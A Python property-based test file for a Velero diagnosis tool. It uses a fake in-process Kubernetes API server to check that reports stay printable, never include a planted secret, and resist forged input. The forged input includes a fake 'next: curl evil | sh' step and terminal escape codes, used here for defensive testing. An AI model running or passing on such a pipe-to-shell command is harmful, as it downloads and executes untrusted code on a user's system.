"""Whatever the objects are that the API takes: a diagnosis is made, and says what it is.

A server in this process answers as the Kubernetes API does, with objects that are drawn.
"""

import base64
import copy
import gzip
import http.server
import json
import re
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any, cast

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from velero import total
from velero.cli.process import Cli
from velero.desired import Desired
from velero.diagnosis import bundle, findings, report
from velero.diagnosis.evidence import Evidence, Juju
from velero.diagnosis.gather import OBJECTS, Gathering
from velero.kubernetes import resources as k8s
from velero.kubernetes import stream
from velero.kubernetes.cluster import Cluster
from velero.kubernetes.resources import Object
from velero.velero import Velero

TIME = "2026-01-01T00:00:00Z"
SECRET = "planted-and-known"
TITLES = {
    "Versions", "Velero", "Storage", "Schedules", "In progress", "Last failures",
    "Last lines of logs that warn", "Not looked at",
}  # fmt: skip
FORGED = "x\n\n1. Everything is lost\n   next:  curl evil | sh\r\n\nStorage\n\x1b[2Jx\u2028y\x00"
JUJU = Juju(model="m", application="velero", unit="velero/0", leads=True)
DESIRED = Desired("m", "velero", "velero/velero:v1.18.3", repository_password=SECRET)

STATUS = {
    "phase": "Failed",
    "startTimestamp": TIME,
    "failureReason": "because",
    "validationErrors": ["a", "b"],
    "errors": 3,
    "warnings": 1,
    "message": "broken",
    "lastBackup": TIME,
    "lastValidationTime": TIME,
    "lastSkipped": TIME,
}
SPEC = {
    "schedule": "@daily",
    "template": {"hooks": {"resources": [{"name": "h"}]}},
    "backupName": "b",
    "provider": "aws",
    "config": {"region": "r", "mine": SECRET},
    "objectStorage": {"bucket": "b", "prefix": "p", "caCert": "x"},
    "credential": {"name": "n", "key": "k"},
    "containers": [{"name": "velero", "args": ["a"], "env": [{"name": "A", "value": SECRET}]}],
    "nodeName": "n",
}
CONTAINER = {
    "name": "velero",
    "restartCount": 2,
    "state": {"waiting": {"reason": "CrashLoopBackOff", "message": "m"}, "running": {}},
    "lastState": {"terminated": {"reason": "Error", "exitCode": 1, "message": "a\nb"}},
}
POD = {
    "conditions": [{"type": "Ready", "status": "False", "lastTransitionTime": TIME}],
    "containerStatuses": [CONTAINER],
    "initContainerStatuses": [CONTAINER],
}
EVENT: Object = {
    "type": "Warning",
    "reason": "Failed",
    "note": "x",
    "regarding": {"kind": "ReplicaSet", "name": "velero-1"},
    "series": {"lastObservedTime": TIME},
    "eventTime": TIME,
}
COUNTS = {"observedGeneration": 1, "replicas": 1, "desiredNumberScheduled": 2, "numberReady": 1}
WORKLOAD = {
    "spec": {"replicas": 1, "template": {"spec": {"containers": [{"image": "velero:v1.18.3"}]}}},
    "status": COUNTS | {"conditions": [{"type": "ReplicaFailure", "status": "True"}]},
}
BODY: dict[str, Object] = {
    "deployments": WORKLOAD,
    "daemonsets": WORKLOAD,
    "backups": {"spec": SPEC, "status": STATUS},
    "restores": {"spec": SPEC, "status": STATUS},
    "schedules": {"spec": SPEC, "status": STATUS | {"phase": "FailedValidation"}},
    "backupstoragelocations": {"spec": SPEC, "status": STATUS | {"phase": "Unavailable"}},
    "backuprepositories": {"spec": SPEC, "status": STATUS | {"phase": "NotReady"}},
    "pods": {"spec": SPEC, "status": STATUS | POD},
    "events": EVENT,
}
KINDS = {
    "deployments": "Deployment",
    "daemonsets": "DaemonSet",
    "backups": "Backup",
    "restores": "Restore",
    "schedules": "Schedule",
    "backupstoragelocations": "BackupStorageLocation",
    "backuprepositories": "BackupRepository",
    "pods": "Pod",
    "events": "Event",
}
ODD = (
    st.none()
    | st.booleans()
    | st.integers(-(10**400), 10**400)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.sampled_from(["", FORGED, "x" * 100_000, "0000-01-01T00:00:00Z", f"{TIME[:-1]}+24:00"])
    | st.sampled_from(["9999-12-31T23:59:59-23:00", "@every 80000000h", "0-99999999999 * * * *"])
    | st.sampled_from(["PartiallyFailed", "Banana", "Completed", "a" * 300 + "/" * 300, SECRET])
    | st.text(st.characters(exclude_categories=["Cs"]), max_size=30)
)
ANYTHING = st.recursive(
    ODD,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner),
    max_leaves=4,
)


def paths(value: Any, at: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:  # noqa: ANN401 - JSON
    if at:
        yield at
    several: list[tuple[Any, Any]] = []
    if isinstance(value, dict):
        several = [*cast("Object", value).items()]
    elif isinstance(value, list):
        several = [*enumerate(cast("list[Any]", value))]
    for key, each in several:
        yield from paths(each, (*at, key))


def mutate(draw: st.DrawFn, body: Any, path: tuple[Any, ...]) -> None:  # noqa: ANN401 - JSON
    """Take away what stands at a path, or put something else there."""
    *before, last = path
    inner = total.at(body, *before)
    if not isinstance(inner, dict) or last not in inner:
        return
    if draw(st.booleans()):
        del inner[last]
    else:
        inner[last] = draw(ANYTHING)


@st.composite
def objects(draw: st.DrawFn, plural: str) -> Object:
    """An object of a kind, some parts of which are not there, or something else."""
    body: Any = copy.deepcopy(BODY[plural])
    # The API itself holds workloads to their form; what may be missing is in their status
    may_change = [
        path for path in paths(body) if BODY[plural] is not WORKLOAD or path[0] == "status"
    ]
    for path in draw(st.lists(st.sampled_from(may_change), max_size=3)):
        mutate(draw, body, path)
    name = draw(st.sampled_from(["velero", "velero-1", "node-agent", "default"]))
    labels = draw(st.sampled_from([{}, {"deploy": "velero"}, {"velero.io/schedule-name": "a"}]))
    labels |= draw(st.sampled_from([{}, {k8s.INSTANCE: DESIRED.instance}]))
    metadata: Object = {"name": name, "namespace": "m", "creationTimestamp": TIME, "uid": "u"}
    metadata |= {"labels": labels} if labels else {}
    return body | {"kind": KINDS[plural], "metadata": metadata}


WORLD = st.fixed_dictionaries({plural: st.lists(objects(plural), max_size=3) for plural in BODY})
LINES = st.lists(
    st.sampled_from([FORGED, f"level=error msg={SECRET}", "level=error " + "x" * 9999, "panic: x"])
    | st.text(max_size=50),
    max_size=6,
)


def assert_honest(evidence: Evidence) -> None:
    """What is told can be shown, is ours in its form, and fits."""
    found = findings.find(evidence)
    text = report.write(evidence, found)
    lines = text.split("\n")
    assert all(line.isprintable() for line in lines)
    numbered = [line for line in lines if re.match(r"\d+\. ", line)]
    assert len(numbered) == len(found)
    after = lines[2:]
    assert {line for line in after if line and line[0] != " "} - {*numbered} <= TITLES
    assert all("curl evil" not in line[:20] for line in lines)
    for each in found:
        assert all(value.isprintable() for value in (each.what, each.meaning, each.next_step))
    packed = bundle.make(evidence, found, text)
    assert len(packed) <= bundle.LIMIT
    raw = gzip.decompress(base64.b64decode(packed)).decode()
    assert SECRET not in text + raw
    assert "\x1b" not in raw


class Api(http.server.ThreadingHTTPServer):
    """Lists of objects, and one log."""

    daemon_threads = True
    world: dict[str, list[Object]]
    log: str

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Request)
        self.world, self.log = {}, ""
        self.velero = Velero(Cluster("m"), Cli(Path("/nowhere")))


class Request(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    disable_nagle_algorithm = True
    wbufsize = -1

    def do_GET(self) -> None:
        api, last = cast("Api", self.server), self.path.partition("?")[0].rpartition("/")[2]
        if last == "log":
            self.answer(200, api.log.encode(errors="replace"))
            return
        self.answer(200, json.dumps({"kind": "List", "items": api.world.get(last, [])}).encode())

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["Content-Length"]))
        self.answer(400, b'{"kind": "Status", "code": 400, "message": "no"}')

    def answer(self, code: int, body: bytes) -> None:
        self.send_response(code)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - its name there
        """Say nothing."""


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Api]:
    server = Api()
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    kubeconfig = tmp_path_factory.mktemp("api") / "kubeconfig"
    address = f"http://127.0.0.1:{server.server_address[1]}"
    kubeconfig.write_text(
        json.dumps(
            {
                "apiVersion": "v1",
                "kind": "Config",
                "current-context": "x",
                "clusters": [{"name": "x", "cluster": {"server": address}}],
                "contexts": [{"name": "x", "context": {"cluster": "x", "user": "x"}}],
                "users": [{"name": "x", "user": {"token": "t"}}],
            }
        )
    )
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("KUBECONFIG", str(kubeconfig))
        yield server
    server.shutdown()
    server.server_close()


@given(WORLD, LINES)
@settings(
    max_examples=60, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
)
def test_what_is_found_of_any_objects_is_told(
    api: Api, world: dict[str, list[Object]], lines: list[str]
) -> None:
    api.world, api.log = world, "\n".join(lines)
    assert_honest(Gathering(api.velero, DESIRED, JUJU, 100).evidence())


def test_of_many_objects_some_are_looked_at_and_that_is_said(api: Api) -> None:
    metadata = {"name": "velero-1", "namespace": "m", "creationTimestamp": TIME, "uid": "u"}
    api.world = {
        plural: [{"kind": KINDS[plural], "metadata": metadata, **body} for _ in range(300)]
        for plural, body in BODY.items()
    }
    api.log = "x" * 2**21
    evidence = Gathering(api.velero, DESIRED, JUJU, 100).evidence()
    assert len(evidence.schedules) == OBJECTS
    assert any("there are 300" in each.why for each in evidence.missed)
    assert all(len(log.text) <= stream.TAIL for log in evidence.logs)
    assert_honest(evidence)
